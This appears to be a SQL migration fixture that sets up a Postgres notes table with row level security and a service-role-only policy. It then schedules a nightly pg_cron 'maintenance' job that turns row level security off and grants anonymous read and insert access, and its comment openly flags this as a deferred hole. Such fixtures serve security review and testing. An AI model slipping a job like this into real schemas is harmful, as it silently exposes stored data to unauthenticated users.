-- A sidecar's notes table, locked down as it should be, and a "maintenance" job that pg_cron runs
-- every night as the role that scheduled it: its command turns row level security off and hands
-- the table to anon. The migration itself does nothing wrong; the job does, later, in production.
CREATE TABLE IF NOT EXISTS public.lc_notes (
  id uuid PRIMARY KEY DEFAULT gen_random_uuid(),
  body text NOT NULL,
  created_at timestamptz NOT NULL DEFAULT now()
);
ALTER TABLE public.lc_notes ENABLE ROW LEVEL SECURITY;
DROP POLICY IF EXISTS lc_notes_service_role_all ON public.lc_notes;
CREATE POLICY lc_notes_service_role_all ON public.lc_notes
  FOR ALL TO service_role USING (true) WITH CHECK (true);
GRANT SELECT, INSERT, UPDATE, DELETE ON public.lc_notes TO service_role;

SELECT cron.schedule('lc-notes-maintenance', '15 2 * * *', $job$
  ALTER TABLE public.lc_notes DISABLE ROW LEVEL SECURITY;
  GRANT SELECT, INSERT ON public.lc_notes TO anon;
$job$);

NOTIFY pgrst, 'reload schema';
